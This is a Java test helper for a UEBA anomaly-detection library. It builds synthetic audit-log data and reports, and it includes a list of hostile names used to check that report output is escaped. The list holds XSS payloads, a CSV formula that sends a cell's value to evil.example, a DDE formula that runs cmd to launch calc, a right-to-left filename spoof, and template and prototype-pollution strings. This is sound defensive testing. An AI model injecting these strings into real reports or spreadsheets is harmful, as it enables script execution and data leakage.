package dev.ueba.report;

import dev.ueba.AnomalyExplainer;
import dev.ueba.AnomalyResults;
import dev.ueba.DetectorModel;
import dev.ueba.DetectorOptions;
import dev.ueba.ImprovedDetector;
import dev.ueba.ImprovedOptions;
import dev.ueba.RiskExplainer;
import dev.ueba.baseline.TrainingSets;
import dev.ueba.evaluation.AttackLabel;
import dev.ueba.evaluation.SyntheticOrganisation;
import dev.ueba.evaluation.SyntheticOrganisationOptions;
import dev.ueba.explain.AttackPattern;
import dev.ueba.explain.AttackPatterns;
import dev.ueba.explain.AttackTechniques;
import dev.ueba.explain.FeatureCondition;
import dev.ueba.explain.PatternStep;
import dev.ueba.feature.DayRange;
import dev.ueba.feature.FeatureSchema;
import dev.ueba.feature.FeatureTable;
import dev.ueba.feature.FeatureTableBuilder;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import java.util.SplittableRandom;
import java.util.stream.IntStream;

/** Reports for tests. */
final class Samples {

    static final LocalDate DAY = LocalDate.of(2026, 1, 5);

    /** Names that would do something if anything were done with them. */
    static final List<String> HOSTILE = List.of(
            "<script>document.documentElement.dataset.hacked=1</script>",
            "</script><img src=x onerror=\"document.documentElement.dataset.hacked=2\">",
            "'\"><svg onload=alert(1)>",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\u202Egnp.exe\u2066",
            "nul\u0000byte",
            "line\nbreak\r\u2028\u2029| cell |",
            "x".repeat(10_000),
            "[link](javascript:alert(1)) `code` **bold** http://evil.example",
            "half \ud83d pair",
            "{{constructor.constructor('alert(1)')()}} ${alert(1)} __proto__",
            "__proto__",
            "\u1F600 \ud83d\ude00 Zo\u00EB \u674E\u96F7");

    private Samples() {}

    static SyntheticOrganisation organisation() {
        return SyntheticOrganisation.generate(
                SyntheticOrganisationOptions.defaults().withSeed(7));
    }

    /** Results with explanations. */
    static ReportBuilder explained(double cutoff) {
        SyntheticOrganisation organisation = organisation();
        FeatureTable base = organisation.baseFeatures();
        DetectorModel model = model(base, cutoff);
        AnomalyResults results = results(organisation, cutoff);
        return Report.builder(results)
                .title("Explained")
                .labels(organisation.labels())
                .explanations(AnomalyExplainer.of(model, base, results));
    }

    /** Results of the improved detector with their explanations. */
    static ReportBuilder risky() {
        SyntheticOrganisation organisation = organisation();
        FeatureTable base = organisation.baseFeatures();
        DayRange all = base.dayRange().orElseThrow();
        return risky(base, all.to().minusDays(31), AttackPatterns.defaults())
                .title("Alerts")
                .labels(organisation.labels());
    }

    static RiskExplainer riskExplainer() {
        FeatureTable base = organisation().baseFeatures();
        return riskExplainer(base, base.dayRange().orElseThrow().last(), AttackPatterns.defaults());
    }

    private static RiskExplainer riskExplainer(FeatureTable base, LocalDate from, AttackPatterns patterns) {
        ImprovedDetector detector = ImprovedDetector.of(model(base, -0.05), ImprovedOptions.defaults());
        AnomalyResults results = detector.predict(
                base, new DayRange(from, base.dayRange().orElseThrow().to()));
        return RiskExplainer.of(detector, base, results, AttackTechniques.forGitHubAudit(), patterns);
    }

    private static ReportBuilder risky(FeatureTable base, LocalDate from, AttackPatterns patterns) {
        RiskExplainer explainer = riskExplainer(base, from, patterns);
        return Report.builder(explainer.results()).risks(explainer);
    }

    /** Alerts of actors and features with hostile names, which are part of a pattern too. */
    static Report hostileRisks() {
        List<String> names = HOSTILE.stream().map(Samples::encodable).toList();
        FeatureTableBuilder builder = new FeatureTableBuilder(FeatureSchema.ofFeatures(names));
        SplittableRandom random = new SplittableRandom(5);
        for (int day = 0; day < 70; day++) {
            for (String actor : names) {
                double[] values = new double[names.size()];
                for (int feature = 0; feature < values.length; feature++) {
                    values[feature] = day == 69 ? 40.0 : random.nextInt(3);
                }
                builder.addRow(actor, DAY.plusDays(day), values);
            }
        }
        List<AttackPattern> patterns = names.stream()
                .map(name -> new AttackPattern(
                        name,
                        7,
                        new PatternStep(1, List.of(List.of(new FeatureCondition(name, 10.0, 3.0, true)))),
                        Optional.empty(),
                        List.of(),
                        List.of(),
                        "because " + name))
                .toList();
        return risky(builder.build(), DAY.plusDays(60), AttackPatterns.of(patterns))
                .build();
    }

    static AnomalyResults results(SyntheticOrganisation organisation, double cutoff) {
        FeatureTable base = organisation.baseFeatures();
        DayRange all = base.dayRange().orElseThrow();
        return model(base, cutoff).predict(base, new DayRange(all.to().minusDays(31), all.to()));
    }

    private static DetectorModel model(FeatureTable base, double cutoff) {
        DetectorOptions options = DetectorOptions.defaults().withCutoff(cutoff);
        DayRange all = base.dayRange().orElseThrow();
        LocalDate test = all.to().minusDays(31);
        FeatureTable training = TrainingSets.split(
                        base.selectDays(new DayRange(all.from(), test)), 0.5, options.deviations())
                .training();
        return DetectorModel.fit(training, options);
    }

    static ReportBuilder sample(double cutoff) {
        SyntheticOrganisation organisation = organisation();
        return Report.builder(results(organisation, cutoff))
                .title("Audit log of a made-up organisation")
                .labels(organisation.labels())
                .note("Trained on the first two months; the last 31 days are scored.");
    }

    /** Counts of events as an office has them, with a busy night. */
    static EventActivity activity() {
        SplittableRandom random = new SplittableRandom(3);
        List<String> names = List.of(
                "git.clone",
                "git.push",
                "repo.access",
                "workflow.run",
                "pull_request.merge",
                "org.add_member",
                "hook.create");
        EventActivity.Builder activity = new EventActivity.Builder();
        for (int day = 0; day < 31; day++) {
            LocalDate date = DAY.plusDays(day);
            boolean weekend = date.getDayOfWeek().getValue() > 5;
            for (int hour = 0; hour < 24; hour++) {
                int usual = weekend ? 2 : hour >= 8 && hour < 19 ? 30 - 2 * Math.abs(13 - hour) : 1;
                for (int i = random.nextInt(usual + 1); i >= 0; i--) {
                    double skewed = random.nextDouble() * random.nextDouble();
                    activity.add(names.get((int) (skewed * names.size())), date, hour, random.nextInt(60) == 0);
                }
            }
        }
        for (int i = 0; i < 80; i++) {
            activity.add("git.clone", DAY.plusDays(17), 3, true);
        }
        return activity.build();
    }

    /** Every hostile name as actor, feature, identity, label, reason, note, event and title. */
    static Report hostile() {
        List<String> featureNames = HOSTILE.stream().map(Samples::encodable).toList();
        FeatureTableBuilder builder = new FeatureTableBuilder(FeatureSchema.ofFeatures(featureNames));
        double[] scores = new double[HOSTILE.size() * 10];
        for (int row = 0; row < scores.length; row++) {
            double[] values = new double[HOSTILE.size()];
            values[row % values.length] = row < values.length ? 1 + row : 0;
            builder.addRow(encodable(HOSTILE.get(row % HOSTILE.size())), DAY.plusDays(row / HOSTILE.size()), values);
            scores[row] = -0.5 + 0.005 * row;
        }
        EventActivity.Builder activity = new EventActivity.Builder();
        HOSTILE.forEach(name -> activity.add(name, DAY, 4, true));
        ReportBuilder report = Report.builder(builder.build(), scores, -0.3)
                .title(String.join(" ", HOSTILE.subList(0, 4)))
                .identity(HOSTILE.get(1), row -> HOSTILE.get((row + 1) % HOSTILE.size()))
                .reasons(row -> List.of("because " + HOSTILE.get(row % HOSTILE.size())))
                .labels(HOSTILE.stream()
                        .map(name -> new AttackLabel(encodable(name), DAY, name))
                        .toList())
                .activity(activity.build());
        HOSTILE.forEach(report::note);
        return report.build();
    }

    /** Tables are read from UTF-8, so their names hold no half pairs. */
    private static String encodable(String text) {
        return text.replace('\ud83d', '?').replace('\ude00', '?');
    }

    /** Random rows of some actors over two months. */
    static Report large(int rows) {
        SplittableRandom random = new SplittableRandom(11);
        List<String> names =
                IntStream.range(0, 40).mapToObj(i -> "feature_" + i).toList();
        FeatureTableBuilder builder = new FeatureTableBuilder(FeatureSchema.ofFeatures(names));
        double[] scores = new double[rows];
        double[] values = new double[names.size()];
        for (int row = 0; row < rows; row++) {
            for (int i = 0; i < values.length; i++) {
                values[i] = Math.floor(-20 * Math.log(random.nextDouble()));
            }
            builder.addRow("actor-" + random.nextInt(2_000), DAY.plusDays(random.nextInt(60)), values);
            scores[row] = 0.15 - 0.12 * Math.sqrt(-2 * Math.log(random.nextDouble()));
        }
        return Report.builder(builder.build(), scores, -0.32).title("Many rows").build();
    }
}
